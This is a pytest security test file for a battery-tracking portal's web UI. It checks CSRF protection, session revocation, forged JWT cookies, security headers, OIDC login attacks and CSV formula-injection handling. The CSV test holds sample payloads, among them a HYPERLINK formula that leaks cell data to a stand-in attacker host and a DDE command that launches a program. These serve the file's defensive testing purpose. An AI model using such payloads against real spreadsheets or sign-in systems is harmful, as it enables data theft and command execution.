"""Attacks on the web UI: its sign-in, its session, its forms, its headers and its CSV.

| attack | before | now |
| --- | --- | --- |
| a cross-site form posts to /ui/signout or /ui/signin (no CSRF token, or a wrong one) | accepted | 403 `csrf`, the session still works, no cookie set |
| replay a copied session cookie after sign-out | the cookie (a token) kept working until it expired | 401: the server-side session is gone |
| a bearer token, `alg` other than the key's, an expired session, garbage or a huge value as the session cookie | a valid token was a session; odd headers were a 500 | 401 page, never 500 |
| CSV cells `=HYPERLINK(…)`, `+cmd`, `-1+1`, `@SUM(…)`, tab- or CR-prefixed | written as given | prefixed with `'` (text) |
| frame a UI page, sniff a type | no CSP, no framing rule, no nosniff | CSP with `frame-ancestors 'none'`, `X-Frame-Options: DENY`, `nosniff` |
| read a cookie over plain HTTP in production | session cookie not Secure by default | every UI cookie Secure unless the dev command's flag is set |
| a ministry's or operator's UI reads (dashboard, CSV, operations) | not in the audit trail | audited exactly like the API's reads |
| demo sign-in on a deployed portal / from another machine | on wherever `dev_signin` was set | only under the dev flag, from loopback |
| `/ui/oidc/callback` | 501 | the full OIDC flow (code + PKCE S256, state, nonce, JWKS) against a real provider process |
| OIDC: tampered state, PKCE stripped, another flow's code, wrong nonce, ID token signed by another key, claims naming no participant | — | refused (401/400/403), no session |
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit, urlunsplit

import httpx
import pytest

from devtools.embedded import free_port, wait_port
from services.portal.ui import sessions
from services.portal.ui.service import Table, to_csv
from services.portal.ui.settings import UISettings
from shared.auth import Ministry, Principal, Role, mint_token
from tests.conftest import serve
from tests.portal_helpers import portal_settings
from tests.test_ui_pages import csrf_of, session_key

ROOT = Path(__file__).resolve().parents[2]
REDIRECT = "http://testserver/ui/oidc/callback"
MCEE = {"org": "MCEE", "role": "ministry", "ministry": "MCEE"}


@asynccontextmanager
async def portal(
    make_settings: Any, client: tuple[str, int] = ("127.0.0.1", 50000)
) -> AsyncIterator[httpx.AsyncClient]:
    from services.portal.app import create_app

    app = create_app(portal_settings(make_settings))
    async with serve(app) as c:
        if client != ("127.0.0.1", 50000):
            c._transport = httpx.ASGITransport(app=app, client=client)  # the same app, another client address
        yield c


def dev(infra: Any) -> UISettings:
    """What `batterytrace dev` on loopback sets."""
    return UISettings(dev_signin=True, dev_signing_key_file=infra.public_key.parent / "jwt-private.pem")


async def demo_sign_in(c: httpx.AsyncClient, preset: str = "MCEE|ministry|MCEE") -> str:
    csrf = csrf_of((await c.get("/ui/signin")).text)
    r = await c.post("/ui/signin", data={"preset": preset, "next": "/ui/", "csrf": csrf})
    assert r.status_code == 303, r.text
    return c.cookies["bt_session"]


# ---- CSRF ----


async def test_posts_without_or_with_a_wrong_csrf_token_are_refused(make_settings, infra) -> None:
    async with portal(make_settings) as c:
        c.app.state.ui_settings = dev(infra)  # type: ignore[attr-defined]
        await c.get("/ui/signin")  # the browser holds a CSRF cookie, the attacker's page does not know it
        for data in ({"preset": "ops|admin|"}, {"preset": "ops|admin|", "csrf": "forged-" + "x" * 30}):
            r = await c.post("/ui/signin?lang=en", data=data)
            assert r.status_code == 403 and "not sent from this portal" in r.text
            assert "bt_session" not in r.headers.get("set-cookie", "")
        session = await demo_sign_in(c)
        for data in ({}, {"csrf": ""}, {"csrf": "forged-" + "x" * 30}):
            assert (await c.post("/ui/signout", data=data)).status_code == 403
        # the session survived every forged sign-out
        assert c.cookies["bt_session"] == session
        assert (await c.get("/ui/ministry/MCEE")).status_code == 200
        # the token in the field must equal the browser's cookie: one from another browser does not do
        other = csrf_of(
            (await httpx.AsyncClient(transport=c._transport, base_url="http://testserver").get("/ui/signin")).text
        )
        assert (await c.post("/ui/signout", data={"csrf": other})).status_code == 403
        assert (await c.get("/ui/ministry/MCEE")).status_code == 200


# ---- sessions ----


async def test_a_copied_cookie_stops_working_at_sign_out(make_settings, infra) -> None:
    async with portal(make_settings) as c:
        c.app.state.ui_settings = dev(infra)  # type: ignore[attr-defined]
        copied = await demo_sign_in(c)
        assert (await c.get("/ui/ministry/MCEE")).status_code == 200
        r = await c.post("/ui/signout", data={"csrf": c.cookies["bt_csrf"]})
        assert r.status_code == 303
        c.cookies.clear()
        r = await c.get("/ui/ministry/MCEE?lang=en", headers={"Cookie": f"bt_session={copied}"})
        assert r.status_code == 401 and "expired or is not valid" in r.text


async def test_forged_and_odd_session_cookies_are_a_clean_401(make_settings, infra) -> None:
    import base64

    def b64(d: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(d).encode()).rstrip(b"=").decode()

    valid_token = mint_token(infra.private_key, org="MCEE", role="ministry", ministry="MCEE")
    odd = [
        valid_token,  # a valid API token is no UI session
        f"{b64({'alg': 'HS256', 'typ': 'JWT'})}.{b64({'org': 'MCEE', 'role': 'ministry'})}.c2ln",
        f"{b64({'alg': 'none'})}.{b64({'org': 'ops', 'role': 'admin'})}.",
        "not-a-session",
        "%00%ff",
        "x" * 4000,
        "..",
    ]
    async with portal(make_settings) as c:
        expired = Principal(org="MCEE", role=Role.ministry, ministry=Ministry.MCEE, subject="MCEE")
        odd.append(await sessions.open_session(c.app.state.engine, expired, ttl_s=-1))  # type: ignore[attr-defined]
        for value in odd:
            for path in ("/ui/ministry/MCEE", "/ui/ops", "/ui/batteries/KR-X-1", "/ui/signin", "/ui/"):
                r = await c.get(path, headers={"Cookie": f"bt_session={value}"})
                assert r.status_code in (200, 401), (path, value[:20], r.status_code)
                assert "text/html" in r.headers["content-type"]
                if path in ("/ui/ministry/MCEE", "/ui/ops", "/ui/batteries/KR-X-1"):
                    assert r.status_code == 401


async def test_demo_sign_in_only_under_the_dev_flag_and_from_loopback(make_settings, infra) -> None:
    async with portal(make_settings) as c:
        await c.get("/ui/signin")
        # the dev flag off (the default): no demo sign-in, whatever the key
        c.app.state.ui_settings = UISettings(dev_signing_key_file=infra.public_key.parent / "jwt-private.pem")  # type: ignore[attr-defined]
        assert 'name="preset"' not in (await c.get("/ui/signin")).text
        r = await c.post("/ui/signin", data={"preset": "ops|admin|", "csrf": c.cookies["bt_csrf"]})
        assert r.status_code == 404 and "bt_session" not in c.cookies
    async with portal(make_settings, client=("203.0.113.7", 40000)) as c:
        c.app.state.ui_settings = dev(infra)  # type: ignore[attr-defined]
        html = (await c.get("/ui/signin")).text
        assert 'name="preset"' not in html
        r = await c.post("/ui/signin", data={"preset": "ops|admin|", "csrf": c.cookies["bt_csrf"]})
        assert r.status_code == 404 and "bt_session" not in c.cookies


def test_the_dev_command_sets_the_flag_only_on_loopback(tmp_path) -> None:
    from devtools.dev import DevConfig, service_env

    def env(host: str) -> dict[str, str]:
        cfg = DevConfig(tmp_path, host, {"registry": 1, "events": 2, "portal": 3}, 4, ["portal"])
        return service_env(cfg, "postgresql://x", "k:1", tmp_path / "keys" / "jwt-public.pem")

    assert env("127.0.0.1")["BT_PORTAL_UI_DEV_SIGNIN"] == "true"
    assert env("127.0.0.1")["BT_PORTAL_UI_COOKIE_SECURE"] == "false"
    assert "BT_PORTAL_UI_DEV_SIGNIN" not in env("0.0.0.0") and "BT_PORTAL_UI_COOKIE_SECURE" not in env("0.0.0.0")
    assert UISettings().dev_signin is False and UISettings().secure_cookies is True


# ---- headers and cookies ----


async def test_every_ui_answer_forbids_framing_and_sniffing(make_settings) -> None:
    async with portal(make_settings) as c:
        for path in ("/ui/", "/ui/signin", "/ui/ministry/MCEE", "/ui/passport/KR-NOPE", "/ui/static/ui.js"):
            r = await c.get(path)
            csp = r.headers["content-security-policy"]
            assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "unsafe-inline" not in csp
            assert r.headers["x-frame-options"] == "DENY", path
            assert r.headers["x-content-type-options"] == "nosniff", path


async def test_cookies_are_secure_http_only_and_same_site_outside_dev(make_settings, infra, tmp_path) -> None:
    async with portal(make_settings) as c:
        c.app.state.ui_settings = UISettings()  # type: ignore[attr-defined]
        set_cookie = (await c.get("/ui/signin")).headers["set-cookie"].lower()
        assert "bt_csrf=" in set_cookie and "secure" in set_cookie and "httponly" in set_cookie
        assert "samesite=strict" in set_cookie
        with provider(tmp_path, MCEE) as issuer:
            c.app.state.ui_settings = UISettings(  # type: ignore[attr-defined]
                oidc_issuer=issuer, oidc_client_id="portal", oidc_client_secret="s3cret", oidc_redirect_uri=REDIRECT
            )
            set_cookie = (await c.get("/ui/signin/oidc")).headers["set-cookie"].lower()
            assert "bt_oidc=" in set_cookie and "secure" in set_cookie and "httponly" in set_cookie
        # under the dev flag: plain HTTP on loopback, so not Secure
        c.app.state.ui_settings = dev(infra)  # type: ignore[attr-defined]
        c.cookies.clear()
        csrf = csrf_of((await c.get("/ui/signin")).text)
        r = await c.post("/ui/signin", data={"preset": "MCEE|ministry|MCEE", "csrf": csrf})
        session_cookie = next(v for k, v in r.headers.multi_items() if k == "set-cookie" and "bt_session" in v)
        assert "secure" not in session_cookie.lower() and "httponly" in session_cookie.lower()


# ---- CSV ----


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    payloads = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)"]
    payloads += ["\t=1+1", "\r=1+1", "=1+1"]
    table = Table("t", ["=name", "value"], [{"=name": p, "value": -3} for p in payloads])
    import csv
    import io

    rows = list(csv.reader(io.StringIO(to_csv(table).lstrip("\ufeff"))))
    assert rows[0] == ["'=name", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in payloads]
    assert all(r[1] == "-3" for r in rows[1:])  # numbers stay numbers
    assert rows[1][0][0] == "'"


# ---- audit ----


async def test_ui_reads_of_non_public_data_are_audited_like_the_api(make_settings, token) -> None:
    admin = token("ops", "admin")
    async with portal(make_settings) as c:
        ministry = {"Cookie": f"bt_session={await session_key(c.app, 'MCEE', 'ministry', 'MCEE')}"}  # type: ignore[attr-defined]
        operator = {"Cookie": f"bt_session={await session_key(c.app, 'ops', 'operator')}"}  # type: ignore[attr-defined]
        assert (
            await c.get("/ui/ministry/MCEE?region=KR-11", headers=ministry | {"X-Purpose": "EPR audit"})
        ).status_code == 200
        assert (await c.get("/ui/ministry/MCEE/csv/recycling_by_process", headers=ministry)).status_code == 200
        assert (await c.get("/ui/ops", headers=operator)).status_code == 200
        await c.get("/ui/", headers=ministry)  # public pages: not audited
        await c.get("/ui/passport/KR-NOPE", headers=ministry)
        await c.get("/ui/ministry/MOTIE", headers=ministry)  # refused (403): nothing read, not audited
        api = await c.get("/v1/views/mcee", headers=token("MCEE", "ministry", ministry="MCEE"))
        log = (await c.get("/v1/audit", headers=admin)).json()["items"]
    got = [
        (e["actor"], e["role"], e["ministry"], e["method"], e["path"], e["query"], e["status"], e["purpose"])
        for e in log
    ]
    assert ("MCEE", "ministry", "MCEE", "GET", "/ui/ministry/MCEE", "region=KR-11", 200, "EPR audit") in got
    assert ("ops", "operator", None, "GET", "/ui/ops", "", 200, None) in got
    assert ("MCEE", "ministry", "MCEE", "GET", "/ui/ministry/MCEE/csv/recycling_by_process", "", 200, None) in got
    assert not {e["path"] for e in log} & {"/ui/", "/ui/passport/KR-NOPE", "/ui/ministry/MOTIE"}
    assert api.status_code == 200  # the API's record of the same kind of read has the same shape
    assert ("MCEE", "ministry", "MCEE", "GET", "/v1/views/mcee", "", 200, None) in got


# ---- OpenID Connect against a real provider process ----


@contextmanager
def provider(tmp_path: Path, claims: dict[str, Any], *, rogue_signing: bool = False) -> Iterator[str]:
    """The OIDC provider (tests/oidc_provider.py, authlib's server) as its own process on 127.0.0.1."""
    port = free_port()
    issuer = f"http://127.0.0.1:{port}"
    config = {
        "port": port,
        "issuer": issuer,
        "client_id": "portal",
        "client_secret": "s3cret",
        "redirect_uri": REDIRECT,
        "user": {"sub": "kim.minji", "password": "pw-1234", "claims": claims},
        "rogue_signing": rogue_signing,
    }
    path = tmp_path / f"oidc-{port}.json"
    path.write_text(json.dumps(config))
    proc = subprocess.Popen([sys.executable, "-m", "tests.oidc_provider", str(path)], cwd=ROOT)
    try:
        wait_port("127.0.0.1", port)
        yield issuer
    finally:
        proc.terminate()
        proc.wait(10)


def oidc_settings(issuer: str) -> UISettings:
    return UISettings(
        oidc_issuer=issuer,
        oidc_client_id="portal",
        oidc_client_secret="s3cret",
        oidc_redirect_uri=REDIRECT,
        cookie_secure=False,  # the test client speaks plain HTTP
    )


def with_query(url: str, **changes: str | None) -> str:
    parts = urlsplit(url)
    q = {k: v[0] for k, v in parse_qs(parts.query).items()}
    for k, v in changes.items():
        if v is None:
            q.pop(k, None)
        else:
            q[k] = v
    return urlunsplit(parts._replace(query=urlencode(q)))


async def at_provider(url: str, password: str = "pw-1234") -> httpx.Response:
    """The user's browser at the provider: open the authorize URL, fill in its login form."""
    async with httpx.AsyncClient(timeout=10) as browser:
        r = await browser.get(url)
        if r.status_code != 200:
            return r
        hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', r.text))
        hidden = {k: v.replace("&amp;", "&") for k, v in hidden.items()}
        action = str(httpx.URL(url).join("/authorize"))
        return await browser.post(action, data={**hidden, "username": "kim.minji", "password": password})


def callback_path(r: httpx.Response) -> str:
    assert r.status_code == 302, r.text
    location = r.headers["location"]
    assert location.startswith(REDIRECT + "?")
    return location.removeprefix("http://testserver")


async def start(c: httpx.AsyncClient) -> str:
    r = await c.get("/ui/signin/oidc", params={"next": "/ui/ministry/MCEE"})
    assert r.status_code == 303, r.text
    return r.headers["location"]


async def signed_in_as_nobody(c: httpx.AsyncClient) -> None:
    assert "bt_session" not in c.cookies
    assert (await c.get("/ui/ministry/MCEE")).status_code == 401


async def test_oidc_sign_in_with_pkce_state_nonce_and_jwks(make_settings, tmp_path, token) -> None:
    with provider(tmp_path, MCEE) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            html = (await c.get("/ui/signin")).text
            assert "/ui/signin/oidc" in html and 'name="preset"' not in html
            url = await start(c)
            q = parse_qs(urlsplit(url).query)
            assert url.startswith(f"{issuer}/authorize?")
            assert q["response_type"] == ["code"] and q["client_id"] == ["portal"] and "openid" in q["scope"][0]
            assert q["code_challenge_method"] == ["S256"] and re.fullmatch(r"[A-Za-z0-9_-]{43}", q["code_challenge"][0])
            assert len(q["state"][0]) >= 32 and len(q["nonce"][0]) >= 32 and q["redirect_uri"] == [REDIRECT]
            assert (await at_provider(url, password="wrong")).status_code == 400
            r = await c.get(callback_path(await at_provider(url)))
            assert (r.status_code, r.headers["location"]) == (303, "/ui/ministry/MCEE")
            # the session reads as the participant the provider's claims name
            page = await c.get("/ui/ministry/MCEE")
            assert page.status_code == 200
            assert (await c.get("/ui/ministry/MOTIE")).status_code == 403
            log = (await c.get("/v1/audit", headers=token("ops", "admin"))).json()["items"]
            assert any(e["actor"] == "MCEE" and e["path"] == "/ui/ministry/MCEE" for e in log)
            # the same answer from the provider once more: the sign-in in flight was single use
            c.cookies.delete("bt_session")


async def test_oidc_tampered_state_or_no_flow_in_flight_is_refused(make_settings, tmp_path) -> None:
    with provider(tmp_path, MCEE) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            back = callback_path(await at_provider(await start(c)))
            state = parse_qs(urlsplit(back).query)["state"][0]
            r = await c.get(with_query(back, state=state[:-2] + "xx") + "&lang=en")
            assert r.status_code == 401 and "did not complete" in r.text
            # the sign-in in flight is spent: the genuine answer after a tampered one signs nobody in
            assert (await c.get(back)).status_code == 401
            await signed_in_as_nobody(c)
            # an answer delivered to a browser that started no sign-in (login CSRF)
            back = callback_path(await at_provider(await start(c)))
            c.cookies.delete("bt_oidc")
            assert (await c.get(back)).status_code == 401
            await signed_in_as_nobody(c)


async def test_oidc_without_pkce_or_with_another_flows_code_is_refused(make_settings, tmp_path) -> None:
    with provider(tmp_path, MCEE) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            url = await start(c)
            stripped = await at_provider(with_query(url, code_challenge=None, code_challenge_method=None))
            assert stripped.status_code == 400 and "PKCE" in stripped.text
            plain = await at_provider(with_query(url, code_challenge_method="plain"))
            assert plain.status_code == 400
            # the attacker's own code (its flow, its verifier) injected into the victim's callback
            async with portal(make_settings) as attacker:
                attacker.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
                attackers = parse_qs(urlsplit(callback_path(await at_provider(await start(attacker)))).query)
            victims = callback_path(await at_provider(await start(c)))
            state = parse_qs(urlsplit(victims).query)["state"][0]
            r = await c.get(with_query(victims, code=attackers["code"][0], state=state))
            assert r.status_code == 401
            await signed_in_as_nobody(c)


async def test_oidc_wrong_nonce_is_refused(make_settings, tmp_path) -> None:
    with provider(tmp_path, MCEE) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            url = with_query(await start(c), nonce="a-nonce-the-portal-never-sent-0123456789")
            r = await c.get(callback_path(await at_provider(url)) + "&lang=en")
            assert r.status_code == 401 and "did not complete" in r.text
            await signed_in_as_nobody(c)


async def test_oidc_id_token_signed_by_another_key_is_refused(make_settings, tmp_path) -> None:
    with provider(tmp_path, MCEE, rogue_signing=True) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            r = await c.get(callback_path(await at_provider(await start(c))))
            assert r.status_code == 401
            await signed_in_as_nobody(c)


@pytest.mark.parametrize(
    "claims",
    [
        {"org": "MCEE", "role": "emperor", "ministry": "MCEE"},
        {"org": "MCEE", "role": "ministry"},
        {"org": "LGES", "role": "manufacturer", "ministry": "MCEE"},
        {"org": "<script>", "role": "operator"},
        {"role": "operator"},
    ],
)
async def test_oidc_claims_that_name_no_participant_are_refused(make_settings, tmp_path, claims) -> None:
    with provider(tmp_path, claims) as issuer:
        async with portal(make_settings) as c:
            c.app.state.ui_settings = oidc_settings(issuer)  # type: ignore[attr-defined]
            r = await c.get(callback_path(await at_provider(await start(c))) + "&lang=en")
            assert r.status_code == 403 and "no valid role" in r.text
            await signed_in_as_nobody(c)
